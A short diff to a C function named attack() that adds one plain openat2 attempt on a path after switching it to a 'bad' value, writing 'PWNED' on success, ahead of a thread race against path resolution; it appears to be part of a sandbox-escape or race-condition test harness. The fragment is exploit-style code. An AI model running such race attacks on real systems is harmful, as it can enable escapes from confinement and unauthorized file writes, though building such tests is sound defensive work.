@@ -27,6 +27,18 @@ int attack(int argc, char **argv)
 	long w = 0, i;
 
 	how.flags = O_RDONLY;
+	/* one plain attempt with the bad value first: the denial the record
+	 * must show, whatever the race does (escape.h, "The racer") */
+	to_bad(NULL);
+	{
+		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how,
+				      sizeof(how));
+		if (fd >= 0) {
+			w += write(fd, "PWNED\n", 6) == 6;
+			close(fd);
+		}
+	}
+	to_good(NULL);
 	pthread_create(&t, NULL, racer_thread, &r);
 	for (i = 0; i < RACE_N; i++) {
 		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &how,
